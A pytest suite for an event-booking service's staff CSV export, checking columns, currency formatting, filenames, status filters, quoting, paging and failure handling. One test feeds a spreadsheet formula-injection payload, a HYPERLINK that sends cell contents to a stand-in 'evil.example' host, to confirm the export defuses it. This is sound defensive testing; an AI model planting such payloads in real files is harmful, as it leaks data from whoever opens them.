"""Staff download the bookings of an event as CSV: all of them, in bounded pieces, and safe to open in a spreadsheet."""

import asyncio
import csv
import io
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx
import pytest
from msgspec import Struct, json
from starlette.types import Message, Scope
from structlog.testing import capture_logs

from holdfast import sql
from holdfast.api.app import make_services
from holdfast.api.booking_export import COLUMNS, PAGE_BOOKINGS_MAX, ExportedRow, write_csv
from holdfast.api.call import Services
from holdfast.api.endpoint import Endpoint, Limits
from holdfast.api.openapi import openapi_document
from holdfast.api.operations import OPERATIONS
from holdfast.engine.engine import Engine
from holdfast.runtime import db, ids
from holdfast.runtime.credentials import Role, create_key
from holdfast.runtime.settings import Settings
from tests.support.engine_harness import (
    EventHandle,
    async_test,
    hold_many,
    lane_connection,
    new_event,
    new_hold_command,
    one_pool,
    poll_until,
    run_commands,
)
from tests.support.harness import Org, Server, connection_to, example_event, post_hold, publish_event, query
from tests.support.http_assertions import expect_error, expect_ok

POLICY = {"avoid_orphans": False, "max_units_per_user": None}
HEADER = [column.name for column in COLUMNS]


@pytest.fixture
def event(admin: httpx.Client) -> str:
    return publish_event(admin, example_event(policy=POLICY))


def download(client: httpx.Client, event: str, **params: str) -> httpx.Response:
    answer = client.get(f"/v1/events/{event}/bookings.csv", params=params)
    assert answer.status_code == 200, answer.text
    return answer


def read_csv(answer: httpx.Response) -> list[dict[str, str]]:
    header, *rows = csv.reader(io.StringIO(answer.content.decode(), newline=""), strict=True)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def hold(client: httpx.Client, event: str, **body: Any) -> dict[str, Any]:
    return expect_ok(post_hold(client, event, **body), 201)


def test_a_row_has_everything_that_staff_need_to_know_about_a_booking(admin: httpx.Client, event: str) -> None:
    items = [{"seat": "A-1"}, {"seat": "A-2"}, {"pool": "standing", "tariff": "child", "quantity": 3}]
    contact = {"name": "Ada", "email": "ada@example.com", "phone": "+441632960961"}
    booking = hold(admin, event, user="ada", contact=contact, items=items)
    expect_ok(admin.post(f"/v1/bookings/{booking['id']}/confirm"))
    (row,) = read_csv(download(admin, event))
    assert row == {
        "reference": booking["reference"],
        "id": booking["id"],
        "status": "confirmed",
        "user": "ada",
        "name": "Ada",
        "email": "ada@example.com",
        "phone": "'+441632960961",
        "items": "A-1 (full); A-2 (full); 3 x standing (child)",
        "units": "5",
        "subtotal": "81.00",
        "tax": "15.39",
        "total": "96.39",
        "currency": "EUR",
        "created_at": booking["created_at"][:19] + "Z",
    }


def test_amounts_have_the_digits_of_their_currency(admin: httpx.Client) -> None:
    for currency, shown in (("JPY", "1500"), ("KWD", "1.500"), ("EUR", "15.00")):
        event = publish_event(admin, example_event(currency=currency, tax_bps=0))
        hold(admin, event, items=[{"pool": "standing", "tariff": "full"}])
        (row,) = read_csv(download(admin, event))
        assert (row["subtotal"], row["tax"][:1], row["total"]) == (shown, "0", shown)


def test_an_event_without_bookings_has_only_a_header(admin: httpx.Client, event: str) -> None:
    assert download(admin, event).content == ",".join(HEADER).encode() + b"\r\n"


def test_the_file_is_utf_8_and_has_the_name_of_its_event(admin: httpx.Client) -> None:
    names = {
        "Noche de Año Nuevo": "bookings-noche-de-ano-nuevo.csv",
        'Quote " and\r\nbreak; filename=x': "bookings-quote-and-break-filename-x.csv",
        "x" * 200: f"bookings-{'x' * 60}.csv",
    }
    for title, name in names.items():
        answer = download(admin, publish_event(admin, example_event(title=title)))
        assert answer.headers["content-type"] == "text/csv; charset=utf-8"
        assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["cache-control"] == "private, no-store"
    event = publish_event(admin, example_event(title="音楽会"))
    assert f'filename="bookings-{event}.csv"' in download(admin, event).headers["content-disposition"]


def test_a_status_selects_bookings_as_they_read_now(server: Server, admin: httpx.Client, event: str) -> None:
    held, confirmed, due = (hold(admin, event, user=f"u-{n}", items=[{"seat": f"A-{n}"}])["id"] for n in (1, 3, 5))
    expect_ok(admin.post(f"/v1/bookings/{confirmed}/confirm"))
    query(
        server.database_url,
        "UPDATE booking SET expires_at = holdfast_now() - interval '1 second' WHERE event_id = $1 AND id = $2",
        *(ids.parse_booking_id(due) or ()),
    )
    assert {row["id"]: row["status"] for row in read_csv(download(admin, event))} == {
        held: "held",
        confirmed: "confirmed",
        due: "expired",
    }
    for status, expected in (("held", [held]), ("confirmed", [confirmed]), ("expired", [due]), ("refunded", [])):
        assert [row["id"] for row in read_csv(download(admin, event, status=status))] == expected
    expect_error(admin.get(f"/v1/events/{event}/bookings.csv", params={"status": "lost"}), 422, "invalid_request")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"], ids=["equals", "plus", "minus", "at", "tab", "CR"])
def test_no_cell_is_a_formula(admin: httpx.Client, event: str, start: str) -> None:
    user = f'{start}HYPERLINK("https://evil.example?x="&A1, "click")'
    hold(admin, event, user=user, items=[{"seat": "A-1"}])
    (row,) = read_csv(download(admin, event))
    assert row["user"] == f"'{user}"


def test_cells_are_quoted_as_rfc_4180_says() -> None:
    cells = ["plain", 'say "hi"', "a,b", "two\r\nlines", "one\nfeed", "", None, 7, "ñ"]
    expected = 'plain,"say ""hi""","a,b","two\r\nlines","one\nfeed",,,7,ñ\r\n'
    assert write_csv([cells]) == expected.encode()
    (parsed,) = csv.reader(io.StringIO(expected, newline=""), strict=True)
    assert parsed == ["plain", 'say "hi"', "a,b", "two\r\nlines", "one\nfeed", "", "", "7", "ñ"]


def test_only_bookings_of_the_event_are_in_the_file(admin: httpx.Client, event: str) -> None:
    before, after = (publish_event(admin, example_event(policy=POLICY)) for _ in range(2))
    for each in (before, event, after):
        hold(admin, each, user=f"of {each}", items=[{"seat": "A-1"}])
    assert [row["user"] for row in read_csv(download(admin, event))] == [f"of {event}"]


def test_staff_can_export_a_draft(admin: httpx.Client) -> None:
    event = expect_ok(admin.post("/v1/events", json=example_event()), 201)["id"]
    assert read_csv(download(admin, event)) == []


def test_a_booking_with_many_lines_does_not_stop_the_export(server: Server, admin: httpx.Client, event: str) -> None:
    """Pages end at a number of lines. The largest booking has fewer, but a page with one booking must go on too."""
    bookings = [
        hold(admin, event, user=f"u-{row}", items=[{"seat": f"{row}-{n}"} for n in range(1, 21)])["id"] for row in "AB"
    ]
    parsed = ids.parse_event_id(event)

    async def read_pages() -> list[int]:
        async with connection_to(server.database_url) as connection:
            sizes, after = [], bytes(16)
            while page := await connection.fetch(
                *sql.reads.bookings_of_event(event=parsed, after=after, limit=200, lines_max=20)
            ):
                sizes.append(len(page))
                booking = ids.parse_booking_id(bookings[len(sizes) - 1])
                assert booking is not None
                after = booking[1]
            return sizes

    assert asyncio.run(read_pages()) == [1, 1]
    assert [row["id"] for row in read_csv(download(admin, event))] == bookings


def test_many_bookings_arrive_over_http(server: Server, org: Org, admin: httpx.Client) -> None:
    count = 2 * PAGE_BOOKINGS_MAX + 50

    async def create() -> tuple[str, list[str]]:
        async with lane_connection(server.database_url) as connection:
            event = await new_event(connection, org.id, pools=one_pool(count))
            made = await hold_many(connection, event, count)
            return event.text, [ids.format_booking_id(event.id, booking) for booking in sorted(made)]

    event, bookings = asyncio.run(create())
    answer = download(admin, event)
    assert answer.headers["transfer-encoding"] == "chunked"
    assert [row["id"] for row in read_csv(answer)] == bookings


class Export:
    """A download in this process, so that the test sees every piece that is sent and when the next page is read."""

    def __init__(self, services: Services, key: str, event: EventHandle) -> None:
        (operation,) = [each for each in OPERATIONS if each.name == "export_bookings"]
        self._endpoint = Endpoint(operation, services, Limits(services))
        self._scope: Scope = {
            "type": "http",
            "method": "GET",
            "path_params": {"id": event.text},
            "query_string": b"",
            "headers": [(b"authorization", f"Bearer {key}".encode())],
            "client": ("127.0.0.1", 1),
        }
        self.messages: list[Message] = []
        self.may_read = asyncio.Event()
        self.may_read.set()

    async def run(self) -> None:
        await self._endpoint(self._scope, self._receive, self._send)

    async def _receive(self) -> Message:
        await asyncio.Event().wait()
        raise AssertionError

    async def _send(self, message: Message) -> None:
        await self.may_read.wait()
        self.messages.append(message)

    @property
    def status(self) -> int:
        status: int = self.messages[0]["status"]
        return status

    @property
    def bodies(self) -> list[bytes]:
        return [message["body"] for message in self.messages[1:]]

    @property
    def bookings(self) -> list[str]:
        text = io.StringIO(b"".join(self.bodies).decode(), newline="")
        return [row["id"] for row in csv.DictReader(text, strict=True)]

    @property
    def is_complete(self) -> bool:
        return not self.messages[-1].get("more_body", False)


class PageReads:
    """Counts the pages that exports read, and how many at once. Reads fail from the page `fails_at` on."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, fails_at: int | None = None) -> None:
        self.count = 0
        self.at_once_max = 0
        self._at_once = 0
        self._fails_at = fails_at
        self._rows = db.DatabaseScope.rows
        monkeypatch.setattr(db.DatabaseScope, "rows", lambda *values: self._read(*values))

    async def _read(self, scope: db.DatabaseScope, kind: type[Any], *values: Any) -> list[Any]:
        if kind is not ExportedRow:
            return await self._rows(scope, kind, *values)
        self.count += 1
        if self.count == self._fails_at:
            raise ConnectionResetError
        self._at_once += 1
        self.at_once_max = max(self.at_once_max, self._at_once)
        try:
            return await self._rows(scope, kind, *values)
        finally:
            self._at_once -= 1


class Exports(Struct, frozen=True):
    """An event with this many bookings, and the means to download them."""

    services: Services
    key: str
    event: EventHandle
    bookings: list[str]

    def new(self) -> Export:
        return Export(self.services, self.key, self.event)


@asynccontextmanager
async def exports_of(database: str, bookings: int) -> AsyncIterator[Exports]:
    pool = await db.create_pool(database, 4)
    async with lane_connection(database) as connection:
        event = await new_event(connection, pools=one_pool(bookings))
        made = await hold_many(connection, event, bookings)
        key = await create_key(db.Database(connection), event.org, Role.SALES)
        services = make_services(Settings(database_url=database), pool, Engine(database, lanes=1))
        listed = [ids.format_booking_id(event.id, booking) for booking in sorted(made)]
        yield Exports(services, key, event, listed)
    await pool.close()


@async_test
async def test_a_large_event_goes_out_page_by_page_with_each_booking_once(
    database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    pages = 5
    async with exports_of(database, pages * PAGE_BOOKINGS_MAX + 1) as exports:
        reads, export = PageReads(monkeypatch), exports.new()
        await export.run()
        assert (export.status, export.is_complete) == (200, True)
        assert export.bookings == exports.bookings
        assert reads.count == pages + 2, "the last read finds nothing"
        assert len(export.bodies) >= pages + 1
        assert max(body.count(b"\r\n") for body in export.bodies) == PAGE_BOOKINGS_MAX
        assert b"content-length" not in dict(export.messages[0]["headers"])


@async_test
async def test_no_more_is_read_while_the_client_does_not_read(database: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async with exports_of(database, 4 * PAGE_BOOKINGS_MAX) as exports:
        reads, export = PageReads(monkeypatch), exports.new()
        export.may_read.clear()
        sending = asyncio.create_task(export.run())
        await poll_until(lambda: reads.count > 0)
        for _ in range(200):
            await asyncio.sleep(0.001)
        assert reads.count == 1
        export.may_read.set()
        await sending
        assert export.bookings == exports.bookings


@async_test
async def test_many_exports_read_one_page_at_a_time(database: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async with exports_of(database, 3 * PAGE_BOOKINGS_MAX) as exports:
        reads, running = PageReads(monkeypatch), [exports.new() for _ in range(6)]
        await asyncio.gather(*(export.run() for export in running))
        assert reads.at_once_max == 1
        assert all(export.bookings == exports.bookings for export in running)


@async_test
async def test_an_export_that_fails_in_the_middle_does_not_look_complete(
    database: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with exports_of(database, 3 * PAGE_BOOKINGS_MAX) as exports:
        PageReads(monkeypatch, fails_at=3)
        export = exports.new()
        with capture_logs() as logs:
            await export.run()
        assert (export.status, export.is_complete) == (200, False)
        assert export.bookings == exports.bookings[: 2 * PAGE_BOOKINGS_MAX]
        assert [entry["event"] for entry in logs] == ["response_cut_off"]


@async_test
async def test_an_export_that_fails_at_once_is_refused(database: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async with exports_of(database, 1) as exports:
        PageReads(monkeypatch, fails_at=1)
        export = exports.new()
        await export.run()
        assert (export.status, export.is_complete) == (503, True)


@async_test
async def test_bookings_made_during_an_export_do_not_disturb_it(database: str, monkeypatch: pytest.MonkeyPatch) -> None:
    async with exports_of(database, 2 * PAGE_BOOKINGS_MAX) as exports, lane_connection(database) as connection:
        reads, export = PageReads(monkeypatch), exports.new()
        export.may_read.clear()
        sending = asyncio.create_task(export.run())
        await poll_until(lambda: reads.count > 0)
        await connection.execute("UPDATE pool SET capacity = capacity + 10")
        await run_commands(connection, [new_hold_command(exports.event) for _ in range(10)])
        export.may_read.set()
        await sending
        assert export.bookings[: len(exports.bookings)] == exports.bookings
        assert len(set(export.bookings)) == len(export.bookings) == len(exports.bookings) + 10


def test_the_document_says_that_it_is_csv() -> None:
    document = json.decode(openapi_document(OPERATIONS))
    operation = document["paths"]["/v1/events/{id}/bookings.csv"]["get"]
    assert list(operation["responses"]["200"]["content"]) == ["text/csv"]
    assert [each["name"] for each in operation["parameters"]] == ["id", "status"]
